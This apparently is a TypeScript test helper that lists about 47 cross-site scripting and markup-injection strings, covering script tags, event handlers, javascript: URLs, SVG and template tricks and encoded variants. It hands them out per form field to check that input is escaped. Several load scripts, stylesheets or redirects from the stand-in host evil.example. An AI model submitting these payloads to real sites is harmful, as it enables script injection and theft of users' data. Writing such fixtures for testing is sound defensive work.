/** Texts that, unless treated as text, would run, load from another site or lead there. Scripts set `ran`. */
export const payloads = [
  '<script>top.ran=1</script>',
  '"><script>top.ran=1</script>',
  "'><script>top.ran=1</script>",
  '</title><script>top.ran=1</script>',
  '</textarea><script>top.ran=1</script>',
  '</script><script>top.ran=1</script>',
  '--><script>top.ran=1</script>',
  ']]><script>top.ran=1</script>',
  '<ScRiPt/src=//evil.example/x></sCrIpT>',
  '<img src=x onerror=top.ran=1>',
  '"><img src=x onerror=top.ran=1>',
  '<img src=//evil.example/x>',
  '" onmouseover="top.ran=1',
  "' autofocus onfocus='top.ran=1",
  '` onerror=`top.ran=1',
  '<svg onload=top.ran=1>',
  '<svg/onload=top.ran=1//',
  '<svg><script>top.ran=1</script></svg>',
  '<svg><animate onbegin=top.ran=1 attributeName=x>',
  '<math><a xlink:href=javascript:top.ran=1>x</a></math>',
  '<a href=javascript:top.ran=1>x</a>',
  'javascript:top.ran=1',
  'JaVaScRiPt:top.ran=1//',
  'java\tscript:top.ran=1',
  '[x](javascript:top.ran=1)',
  '![x](//evil.example/x)',
  '<iframe src=javascript:top.ran=1>',
  '<iframe srcdoc="<script>top.ran=1</script>">',
  '<object data=javascript:top.ran=1>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x>',
  "<style>@import'//evil.example/x';*{display:none}</style>",
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><input name=x>',
  '<details open ontoggle=top.ran=1>',
  '<video><source onerror=top.ran=1></video>',
  '<noscript><p title="</noscript><img src=x onerror=top.ran=1>">',
  '\u0024{top.ran=1}',
  "{{constructor.constructor('top.ran=1')()}}",
  '\\u003cscript\\u003etop.ran=1\\u003c/script\\u003e',
  '&lt;script&gt;top.ran=1&lt;/script&gt;',
  '%3Cscript%3Etop.ran=1%3C/script%3E',
  '＜script＞top.ran=1＜/script＞',
  '\u202e<script>top.ran=1</script>\u202c',
  'data:text/html,<script>top.ran=1</script>',
  'red;background:url(//evil.example/x)',
] as const;

/** The texts that fit into this many characters; short ones are joined. */
function textsOf(most: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= most)) {
    const longer = `${texts.at(-1)} ${payload}`;
    if (texts.length > 0 && longer.length <= most) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}

const taken = new Map<string, number>();

/** Several texts of at most `most` characters in total; each call for a field returns the next ones, cyclically. */
export function hostileText(field: string, most: number): string {
  const texts = textsOf(most);
  const at = taken.get(field) ?? 0;
  taken.set(field, at + 1);
  return texts[at % texts.length] ?? '';
}
